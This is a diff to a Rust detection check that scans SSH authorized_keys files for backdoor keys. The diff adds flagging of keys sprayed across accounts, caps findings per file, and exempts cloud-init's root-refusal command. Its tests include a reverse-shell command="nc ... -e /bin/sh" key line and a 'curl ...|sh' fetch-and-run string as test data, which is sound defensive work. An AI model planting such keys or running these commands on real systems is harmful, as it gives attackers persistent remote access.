@@ -7,7 +7,7 @@
 //! (info; low for root). Separately reported: keys with `command=` (high, critical when the
 //! command looks like a shell or download), `environment=` (high), keys of system accounts,
 //! keys in `authorized_keys2`, files modified since `--since` (default 30 days), lines that are
-//! not keys, and files others can write.
+//! not keys, files others can write, and one key authorizing several accounts.
 //!
 //! **Why an attacker leaves this trace:** appending a public key is the most common persistence
 //! on Linux servers (T1098.004): it survives password changes and needs no process. `command=`
@@ -19,7 +19,7 @@
 //!
 //! **ATT&CK:** T1098.004 (Account Manipulation: SSH Authorized Keys).
 
-use std::collections::HashSet;
+use std::collections::{BTreeMap, BTreeSet, HashSet};
 
 use huoyan_artifacts::authorized_keys::{self, KeyLine};
 use huoyan_artifacts::sshd_config;
@@ -47,6 +47,11 @@ static INFO: CheckInfo = CheckInfo {
 
 /// Largest key file read (a real one is a few KB).
 const CAP: u64 = 4 * 1024 * 1024;
+
+/// Keys listed per file in the inventory finding.
+const MAX_LISTED: usize = 200;
+/// Findings per file for individual keys and bad lines.
+const MAX_PER_FILE: usize = 100;
 
 const DEFAULT_FILES: &[&str] = &[".ssh/authorized_keys", ".ssh/authorized_keys2"];
 
@@ -77,6 +82,15 @@ fn looks_malicious(command: &str) -> bool {
     ]
     .iter()
     .any(|p| c.contains(p))
+}
+
+/// cloud-init's `disable_root_opts` command, written in front of root's keys on cloud images:
+/// `echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10;exit 142`.
+fn is_cloud_init_refusal(command: &str) -> bool {
+    let c = command.trim();
+    c.starts_with("echo 'Please login as the user ")
+        && c.ends_with("exit 142")
+        && !c.contains(['|', '`', '$', '>', '<', '&'])
 }
 
 fn key_json(k: &KeyLine) -> serde_json::Value {
@@ -141,6 +155,8 @@ impl Check for AuthorizedKeys {
         let uid_min = huoyan_artifacts::login_defs::read(&ctx.root).uid_min;
         let patterns = patterns(ctx);
         let mut seen = HashSet::new();
+        // fingerprint -> (users, files) it authorizes, to spot one key sprayed over accounts.
+        let mut by_key: BTreeMap<String, (BTreeSet<String>, BTreeSet<String>)> = BTreeMap::new();
         for p in &ctx.users().passwd {
             if !p.home.starts_with('/') || p.name.starts_with(['+', '-']) {
                 continue;
@@ -174,8 +190,40 @@ impl Check for AuthorizedKeys {
                     meta: &meta,
                 };
                 let system = uid != 0 && (uid < uid_min || uid == 65534);
-                examine_file(ctx, &fc, &data.data, uid, system, since, out);
+                for fp in examine_file(ctx, &fc, &data.data, uid, system, since, out) {
+                    let entry = by_key.entry(fp).or_default();
+                    entry.0.insert(p.name.clone());
+                    entry.1.insert(path.clone());
+                }
             }
+        }
+        for (fp, (users, files)) in by_key {
+            if users.len() < 2 {
+                continue;
+            }
+            let severity = if users.len() > 3 {
+                Severity::High
+            } else {
+                Severity::Medium
+            };
+            let list: Vec<&str> = users.iter().map(String::as_str).collect();
+            let mut f = INFO
+                .finding(
+                    severity,
+                    format!(
+                        "key {fp} may log in as {} accounts: {}",
+                        users.len(),
+                        list.join(", ")
+                    ),
+                )
+                .evidence(json!({"fingerprint": fp, "users": list, "files": files}));
+            for u in &users {
+                f = f.user(u.clone());
+            }
+            for file in &files {
+                f = f.path(file.clone());
+            }
+            out.add(f);
         }
     }
 }
@@ -188,7 +236,7 @@ fn examine_file(
     system: bool,
     since: huoyan_core::Timestamp,
     out: &mut Outcome,
-) {
+) -> Vec<String> {
     let parsed = authorized_keys::parse(data);
     let until = ctx.window.until.unwrap_or(ctx.now);
     let recent = fc.meta.mtime.is_some_and(|t| t >= since && t <= until);
@@ -197,7 +245,8 @@ fn examine_file(
         .lstat(fc.path)
         .is_ok_and(|m| m.kind == FileKind::Symlink);
     if !parsed.keys.is_empty() {
-        let keys: Vec<_> = parsed.keys.iter().map(key_json).collect();
+        // The inventory lists at most MAX_LISTED keys (a hostile file can hold millions).
+        let keys: Vec<_> = parsed.keys.iter().take(MAX_LISTED).map(key_json).collect();
         let inventory = if uid == 0 {
             Severity::Low
         } else {
@@ -218,15 +267,24 @@ fn examine_file(
             })),
         );
     }
+    // Every key is judged (a backdoor key can sit at line 10,000); past MAX_PER_FILE findings
+    // the rest are folded into one.
+    let mut reported = 0usize;
+    let mut folded: Vec<usize> = Vec::new();
+    let mut folded_worst = Severity::Info;
     for k in &parsed.keys {
         let mut reasons: Vec<(Severity, String)> = Vec::new();
         if let Some(cmd) = k.option("command") {
-            let severity = if looks_malicious(cmd) {
-                Severity::Critical
+            if is_cloud_init_refusal(cmd) {
+                // cloud-init's disable_root: the key only prints "login as ubuntu" and exits.
             } else {
-                Severity::High
-            };
-            reasons.push((severity, format!("runs command=\"{cmd}\" on login")));
+                let severity = if looks_malicious(cmd) {
+                    Severity::Critical
+                } else {
+                    Severity::High
+                };
+                reasons.push((severity, format!("runs command=\"{cmd}\" on login")));
+            }
         }
         if let Some(env) = k.option("environment") {
             let severity = if env.starts_with("LD_") || env.starts_with("BASH_ENV") {
@@ -263,6 +321,12 @@ fn examine_file(
             continue;
         }
         let severity = reasons.iter().map(|r| r.0).max().unwrap_or(Severity::Info);
+        if reported >= MAX_PER_FILE {
+            folded.push(k.line);
+            folded_worst = folded_worst.max(severity);
+            continue;
+        }
+        reported += 1;
         let what: Vec<&str> = reasons.iter().map(|r| r.1.as_str()).collect();
         let mut f = fc
             .finding(
@@ -290,7 +354,19 @@ fn examine_file(
         }
         out.add(f);
     }
-    for bad in &parsed.bad {
+    if !folded.is_empty() {
+        out.add(
+            fc.finding(
+                folded_worst,
+                format!(
+                    "{} more suspicious keys (lines in the evidence)",
+                    folded.len()
+                ),
+            )
+            .evidence(json!({"file": fc.path, "lines": folded})),
+        );
+    }
+    for bad in parsed.bad.iter().take(MAX_PER_FILE) {
         out.add(
             fc.finding(Severity::Low, format!("line {} is not a key", bad.line))
                 .evidence(json!({"file": fc.path, "line": bad.line, "text": bad.text})),
@@ -309,6 +385,11 @@ fn examine_file(
             .evidence(json!({"file": fc.path, "mode": format!("{:04o}", fc.meta.perm()), "uid": fc.meta.uid})),
         );
     }
+    parsed
+        .keys
+        .iter()
+        .filter_map(|k| k.fingerprint.clone())
+        .collect()
 }
 
 #[cfg(test)]
@@ -361,6 +442,61 @@ mod tests {
             .collect();
         assert_eq!(alice.len(), 1);
         assert_eq!(alice[0].severity, Severity::Info);
+        // The same key in all three files is one sprayed key.
+        let sprayed = out
+            .findings
+            .iter()
+            .find(|f| f.users.len() == 3)
+            .expect("sprayed key");
+        assert_eq!(sprayed.severity, Severity::Medium);
+        assert_eq!(sprayed.paths.len(), 3);
+    }
+
+    #[test]
+    fn a_backdoor_key_deep_in_a_long_file_is_still_reported() {
+        let mut keys = String::new();
+        for i in 0..150 {
+            keys.push_str(&format!("command=\"/bin/true\" ssh-ed25519 {KEY} k{i}\n"));
+        }
+        keys.push_str(&format!(
+            "command=\"nc 203.0.113.9 4444 -e /bin/sh\" ssh-ed25519 {KEY} last\n"
+        ));
+        let dir = root_with(&[
+            ("/etc/passwd", DEBIAN_PASSWD),
+            ("/root/.ssh/authorized_keys", &keys),
+        ]);
+        set_old(dir.path(), "/root/.ssh/authorized_keys");
+        let out = run_default(&AuthorizedKeys, dir.path());
+        // inventory + MAX_PER_FILE individual findings + one folded finding
+        assert_eq!(out.findings.len(), MAX_PER_FILE + 2);
+        let folded = out.findings.last().expect("folded");
+        assert_eq!(folded.severity, Severity::Critical);
+        assert_eq!(
+            folded.evidence["lines"].as_array().map(|a| a.len()),
+            Some(51)
+        );
+    }
+
+    #[test]
+    fn cloud_init_root_refusal_is_not_a_backdoor() {
+        let line = format!(
+            "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"ubuntu\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" ssh-ed25519 {KEY} aws\n"
+        );
+        let dir = root_with(&[
+            ("/etc/passwd", DEBIAN_PASSWD),
+            ("/root/.ssh/authorized_keys", &line),
+        ]);
+        set_old(dir.path(), "/root/.ssh/authorized_keys");
+        let out = run_default(&AuthorizedKeys, dir.path());
+        assert!(
+            out.findings.iter().all(|f| f.severity <= Severity::Low),
+            "{:#?}",
+            out.findings
+        );
+        // and a real payload with the same prefix is not excused
+        assert!(!is_cloud_init_refusal(
+            "echo 'Please login as the user x'; curl http://203.0.113.1|sh; exit 142"
+        ));
     }
 
     #[test]
